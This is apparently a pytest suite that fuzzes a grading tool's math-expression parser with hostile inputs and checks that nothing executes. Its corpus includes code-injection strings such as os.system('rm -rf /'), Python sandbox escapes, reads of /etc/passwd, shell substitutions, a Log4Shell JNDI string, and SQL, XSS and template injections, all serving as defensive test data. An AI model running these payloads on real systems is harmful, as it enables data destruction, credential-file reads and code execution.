"""Hostile answers: nothing executes, nothing hangs, every refusal is a ParseError with a message.

Each input of the corpus is judged the way the grader does it (parse, to_sympy, evaluate, and
parse_number) under sentinels that record any call of eval, exec, compile, open, os.system,
subprocess, dangerous imports or string sympification; each judgement must take under a
second of CPU time (not wall time: the machine may be loaded) and end either in a ParseError
that explains itself in both languages or, for the few inputs listed in LEGITIMATE, in a value.
"""

from __future__ import annotations

import ast
import builtins
import os
import random
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import sympy
import sympy.parsing.sympy_parser
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import grader.reading.parser
from grader.reading.parser import ParseError, evaluate, explain, parse, parse_number, read_as, to_sympy

SYMPIFY_MODULE = sys.modules["sympy.core.sympify"]  # the attribute of that name is the function
SYMBOLS = ["x", "w", "t", "o1", "t1", "h1", "delta_o1", "eta", "w5"]
SYM = {name: sympy.Symbol(name) for name in SYMBOLS}
VALUES = {name: 0.25 + 0.1 * i for i, name in enumerate(SYMBOLS)}
TIME_LIMIT = 1.0  # seconds of this process's CPU time per judgement; a wall-clock watchdog at 5x

CODE_INJECTION = [
    "__import__('os').system('x')",
    '__import__("os").system("rm -rf /")',
    "().__class__.__bases__[0].__subclasses__()",
    "().__class__.__mro__[1].__subclasses__()",
    "sympify.__globals__",
    "sympify.__globals__['__builtins__']['eval']('1')",
    "lambda: 0",
    "(lambda x: x)(1)",
    "x.real",
    "x.__class__",
    "w.__dict__",
    "exp.__code__",
    "x[0]",
    "x[::-1]",
    "[x for x in ()]",
    "{x: 1}",
    "f'{x}'",
    "f\"{__import__('os').getcwd()}\"",
    "exec('1')",
    'exec("import os")',
    "eval('1+1')",
    "compile('1','','eval')",
    "open('/etc/passwd')",
    "open('/etc/passwd').read()",
    "globals()",
    "locals()",
    "vars()",
    "dir()",
    "getattr(x, 'y')",
    "setattr(x, 'y', 1)",
    "breakpoint()",
    "input()",
    "print(1)",
    "help()",
    "exit()",
    "quit()",
    "import os",
    "from os import system",
    "x; import os",
    "x\nimport os",
    "(y := 1)",
    "x if w else t",
    "x and w",
    "not x",
    "x or 1",
    "x == 1",
    "x < w",
    "x % 2",
    "x // 2",
    "x @ w",
    "~x",
    "x << 2",
    "x & w",
    "x | w",
    "x ^= 2",
    "*x",
    "**x",
    "@x",
    "yield x",
    "await x",
    "async def f(): pass",
    "def f(): pass",
    "class A: pass",
    "assert 0",
    "raise SystemExit",
    "del x",
    "pass",
    "b'\\x00'",
    "'abc'",
    '"abc"',
    "\\x41",
    "\\u0041",
    "# comment",
    "x # comment",
    "...",
    "None",
    "True",
    "False",
    "__builtins__",
    "__name__",
    "__class__",
    "_",
    "__",
]

SYMPY_AND_NUMPY = [
    "Symbol('x')",
    "S('1')",
    "S(1)",
    "sympify('x')",
    "parse_expr('x')",
    "Integer(10)**10**10",
    "N(pi, 10**9)",
    "Float('1e9999')",
    "Rational(1, 3)",
    "Matrix([[1]])",
    "Integral(x, x)",
    "Sum(1/n**2, (n, 1, oo))",
    "oo",
    "zoo",
    "nan",
    "inf",
    "-inf",
    "I",
    "pi",
    "E**10**10",
    "np.ones(10**10)",
    "numpy.exp(x)",
    "math.exp(x)",
    "sympy.exp(x)",
    "x.evalf(10**9)",
    "lambdify(x, x)",
    "Function('f')(x)",
    "Derivative(x, x)",
    "diff(x, x)",
    "integrate(x, x)",
    "factor(x)",
]

HUGE = [
    "9**9**9**9",
    "10^10^10",
    "2^2^2^2^2^2",
    "10**10**10",
    "2**2**100",
    "factorial(10**10)",
    "factorial(10^10)",
    "gamma(10**10)",
    "1e999999",
    "1e-999999",
    "1E+99999999999",
    "9" * 400,
    "0." + "0" * 400 + "1",
    "1" + "0" * 31,
    "123456789012345678901234567890123",
    "(10^300)^2",
    "(1e300)^(1e300)",
    "1e300^1e300",
    "2^(2^(2^(2^(2^2))))",
    "x^1000000",
    "x^(10^10)",
    "x^9^9",
    "(x+w+t)^1000",
    "exp(exp(exp(100)))",
    "exp(exp(exp(exp(exp(1000)))))",
    "exp(1e300)",
    "sqrt(10^300)^10",
    "(10^30+7)^(262/263)",
    "(123456789012345678901234567890)^(299/300)",
    "exp(log(3)*262/263)",
    "2^(1/3)*2^(1/5)*2^(1/7)*2^(1/11)*2^(1/13)*2^(1/17)*2^(1/19)*2^(1/23)",
    "0.5^2000",
    "1e-300^2",
    "10^-400",
    "(1e-30+1)^100000",
    "tanh(log(123456789012345678901234567890))^1000",
    "99999999999999999999999999999^99999999999999999999999999999",
    "2^99999999999999999999999999999",
    "x^-99999999999999999999999999999",
]

NESTING = [
    "(" * 10000,
    "(" * 10000 + "1" + ")" * 10000,
    "(" * 100 + "1" + ")" * 100,
    "(" * 51 + "1" + ")" * 51,
    ")" * 100,
    "(" * 60,
    "-" * 400 + "1",
    "+" * 400 + "1",
    "-(" * 100 + "1" + ")" * 100,
    "√" * 300 + "2",
    "2^" * 200 + "2",
    "2**" * 150 + "2",
    "sigmoid(" * 60 + "x" + ")" * 60,
    "exp(" * 60 + "1" + ")" * 60,
    "((((((((((((((((((((((((((((((((((((((((((((((((((((((x))))))))))))))))))))))))))))))))))))))",
    "x" + "^x" * 100,
    "x" + "⁻¹" * 100,
    "x" + "²" * 200,
]

LONG = [
    "1" * 10**6,
    "x" * 10**6,
    "1+" * 10**5 + "1",
    "(" * 10**6,
    "a" * 501,
    " " * 10**6,
    "\u200b" * 10**5,
    "x" * 499 + "$",
    "1+" * 249 + "1",
    "x*" * 249 + "x",
]

INJECTION_ELSEWHERE = [
    "'; DROP TABLE students; --",
    "1; DROP TABLE students",
    "1' OR '1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "$(rm -rf /)",
    "`rm -rf /`",
    "| cat /etc/passwd",
    "&& shutdown -h now",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "{{config.__class__}}",
    "{0.__class__}",
    "{pos}{name}{allowed}",
    "%s%s%s%n",
    "%(name)s",
    "../../etc/passwd",
    "file:///etc/passwd",
    "http://evil.example/x",
    "\\input{/etc/passwd}",
    "\\frac{1}{2}",
    "$$x$$",
    "=cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(1+1)",
    "0x41",
    "0b101",
    "0o17",
    "1_000",
    "1j",
    "2j*x",
    "1.2.3",
    "1e",
    "1e+",
    "e-",
    ".",
    "..",
    ",",
    "0,,5",
    "x,y",
    "x = 0.5",
    "= 0.5",
    "0.5 m/s",
    "50%",
    "≈0.5",
    "~0.5",
    "±0.5",
    "0.5±0.1",
    "∞",
    "-∞",
    "∑x",
    "∫x dx",
    "½",
    "x′",
    "x'",
    "dE/dw5",
    "∂E/∂w5",
    "w5 ← w5 - η·δ",
]

UNICODE = [
    "\x00",
    "1\x002",
    "\x00" * 100,
    "1\u202e2",
    "\u202ex+1",
    "x\u2066+1\u2069",
    "\u200fx",
    "x\u200d+1",
    "x\u0301",
    "x" + "\u0301\u0302\u0303\u0304\u0305" * 20,
    "😀",
    "1😀2",
    "x+👍",
    "\ud800",
    "1\udfff",
    "\ue000",
    "\uffff",
    "\ufffd",
    "\U0010ffff",
    "а+1",  # Cyrillic a
    "x\u037e",  # Greek question mark looks like ;
    "＿＿import＿＿('os')",
    "𝐞𝐱𝐞𝐜('1')",
    "ﬁ",
    "⁽x⁾",
    "中文答案",
    "答：0.5",
    "٣",
    "१",
    "\u2028x",
    "x\u2029",
    "\x85",
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\r\n1",
    "\t\t1\t",
    "\x0b1",
    "\x0c1",
    "x\x7f",
]

CONTROL = [f"1{chr(code)}2" for code in (*range(0, 9), 11, 12, *range(14, 32), 127)]
PUNCTUATION = [f"2{char}3" for char in "!\"#$%&',:;<=>?@[\\]_`{|}~"]


def _random_garbage(count: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    alphabet = [chr(c) for c in range(32, 127)] + list("√×·−–²³⁻¹₁₂δησ（）π∞😀\u202e\x00")
    return ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 60))) for _ in range(count)]


CORPUS = list(
    dict.fromkeys(
        CODE_INJECTION
        + SYMPY_AND_NUMPY
        + HUGE
        + NESTING
        + LONG
        + INJECTION_ELSEWHERE
        + UNICODE
        + CONTROL
        + PUNCTUATION
        + _random_garbage(60, seed=20240101)
    )
)

# Odd but legitimate answers: they parse, and the back ends return a value (maybe inf or nan).
LEGITIMATE = {
    "exp(exp(exp(100)))",  # inf in numpy, an unevaluated tower in sympy
    "exp(exp(exp(exp(exp(1000)))))",
    "exp(1e300)",
    "1+" * 249 + "1",  # 499 characters, a left-deep tree of 249 levels
    "1e",  # 1*e, like 2e
    "x\u200d+1",  # the zero-width joiner is invisible
    "\r\n1",
    "\t\t1\t",
    "2,3",  # a comma between digits is a decimal comma
}


def _explained(error: ParseError) -> None:
    for lang in ("en", "zh"):
        message = explain(error, lang)
        assert isinstance(message, str) and message.strip()
        assert "\x00" not in message and "\u202e" not in message and "\x1b" not in message


@contextmanager
def watchdog(seconds: float) -> Iterator[None]:
    """Turn a hang into a TimeoutError (where SIGALRM exists), so a missing bound fails."""
    if not hasattr(signal, "setitimer"):
        yield
        return

    def expire(signum, frame):
        raise TimeoutError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def judge(text: str) -> str:
    """Parse, convert, evaluate and read as a number; return "valid" or the error's name."""
    with watchdog(5 * TIME_LIMIT):
        return _judge(text)


def _judge(text: str) -> str:
    started = time.process_time()
    try:
        node = parse(text, SYMBOLS)
        to_sympy(node, SYM)
        evaluate(node, VALUES)
        read_as(node)
        outcome = "valid"
    except ParseError as error:
        _explained(error)
        outcome = type(error).__name__
    try:
        parse_number(text)
    except ParseError as error:
        _explained(error)
    elapsed = time.process_time() - started
    assert elapsed < TIME_LIMIT, f"{elapsed:.2f}s of CPU for {text[:80]!r}"
    return outcome


def test_the_corpus_is_large_enough():
    assert len(CORPUS) >= 200


DANGEROUS_MODULES = {
    "os", "subprocess", "shutil", "socket", "pty", "ctypes", "pickle", "marshal", "code",
    "codeop", "importlib", "webbrowser", "urllib",
}  # fmt: skip


@contextmanager
def watch() -> Iterator[list[str]]:
    """Replace every dangerous callable by a sentinel that records the call and refuses it.

    Undone on exit, before pytest (which itself compiles code) reports anything.
    """
    calls: list[str] = []
    real_import, real_sympify = builtins.__import__, SYMPIFY_MODULE.sympify

    def sentinel(name):
        def refuse(*args, **kwargs):
            calls.append(name)
            raise RuntimeError(f"{name} called")

        return refuse

    def watched_import(name, *args, **kwargs):
        if name.split(".")[0] in DANGEROUS_MODULES:
            calls.append(f"import {name}")
        return real_import(name, *args, **kwargs)

    def watched_sympify(a, *args, **kwargs):
        if isinstance(a, str):
            calls.append(f"sympify({a[:20]!r})")
            raise RuntimeError("string sympified")
        return real_sympify(a, *args, **kwargs)

    with pytest.MonkeyPatch.context() as patch:
        for name in ("eval", "exec", "compile", "open", "breakpoint", "input"):
            patch.setattr(builtins, name, sentinel(name))
        patch.setattr(builtins, "__import__", watched_import)
        patch.setattr(os, "system", sentinel("os.system"))
        patch.setattr(os, "popen", sentinel("os.popen"))
        patch.setattr(subprocess, "Popen", sentinel("subprocess.Popen"))
        patch.setattr(SYMPIFY_MODULE, "sympify", watched_sympify)
        patch.setattr(sympy.parsing.sympy_parser, "parse_expr", sentinel("parse_expr"))
        yield calls


def watched_judge(text: str) -> str:
    """``judge`` under the sentinels; fails if anything dangerous was called."""
    with watch() as calls:
        try:
            outcome = judge(text)
        except Exception as error:  # report after the sentinels are gone
            failure = error
        else:
            failure = None
    if failure is not None:
        raise failure
    assert calls == [], calls
    return outcome


def test_the_sentinels_catch_what_they_guard():
    with watch() as calls:
        attempts = (
            lambda: eval("1"),
            lambda: os.system("true"),
            lambda: sympy.sympify("1"),  # reaches parse_expr
            lambda: sympy.Pow(2, "1"),  # sympy's internal _sympify
        )
        for attempt in attempts:
            with pytest.raises(RuntimeError):
                attempt()
    assert calls == ["eval", "os.system", "parse_expr", "sympify('1')"]


@pytest.mark.parametrize("text", CORPUS, ids=[f"hostile{i}" for i in range(len(CORPUS))])
def test_hostile_input_is_refused_quickly_with_a_message_and_runs_nothing(text):
    judge(text)  # warm sympy's caches and lazy imports first, then judge under watch
    outcome = watched_judge(text)
    if text in LEGITIMATE:
        assert outcome == "valid"
    else:
        assert outcome != "valid", f"{text[:80]!r} was accepted"


def test_injected_commands_leave_no_trace(tmp_path):
    target = tmp_path / "pwned"
    attempts = [
        f"__import__('os').system('touch {target}')",
        f"open('{target}', 'w').write('x')",
        f"exec(\"open('{target}','w')\")",
        f"sympify(\"__import__('os').system('touch {target}')\")",
    ]
    for text in attempts:
        assert watched_judge(text) != "valid"
    assert not target.exists()


FORBIDDEN_CALLS = {
    "eval",
    "exec",
    "compile",
    "sympify",
    "parse_expr",
    "S",
    "__import__",
    "lambdify",
    "evalf",
    "N",
    "simplify",
    "nsimplify",
}


@pytest.mark.parametrize("module", ["parser.py", "messages.py"])
def test_the_parser_source_never_calls_an_evaluator(module):
    source = Path(grader.reading.parser.__file__).with_name(module).read_text(encoding="utf-8")
    called = {
        node.func.id if isinstance(node.func, ast.Name) else node.func.attr
        for node in ast.walk(ast.parse(source))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name | ast.Attribute)
    }
    assert called & FORBIDDEN_CALLS == set()


# --------------------------------------------------------------------------- properties

TOKENS = [
    "x",
    "w",
    "t",
    "o1",
    "δ_o1",
    "η",
    "w_5",
    "w₅",
    "y",
    "0",
    "1",
    "2",
    "9",
    "0.5",
    ".5",
    "1e-3",
    "1e30",
    "1e300",
    "123456789012345678901234567890",
    "0,5",
    "e",
    "exp(",
    "ln(",
    "log(",
    "sqrt(",
    "σ(",
    "sigmoid(",
    "tanh(",
    "sin(",
    "√",
    "(",
    ")",
    "^",
    "**",
    "*",
    "/",
    "+",
    "-",
    "−",
    "×",
    "·",
    "x10",
    "²",
    "⁻¹",
    "⁻",
    " ",
    ".",
    ",",
    "_",
    "{",
    "}",
    "$",
    "[",
    "=",
    "\x00",
    "\u202e",
]
grammarish = st.lists(st.sampled_from(TOKENS), max_size=40).map("".join)
PROPERTY = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@PROPERTY
@given(st.text(max_size=300))
def test_random_text_raises_nothing_but_parse_errors(text):
    judge(text)


@PROPERTY
@given(grammarish)
def test_random_token_soup_raises_nothing_but_parse_errors(text):
    judge(text)


@PROPERTY
@given(grammarish)
def test_what_parses_round_trips_through_read_as(text):
    try:
        node = parse(text, SYMBOLS)
    except ParseError:
        return
    assert parse(read_as(node), SYMBOLS) == node
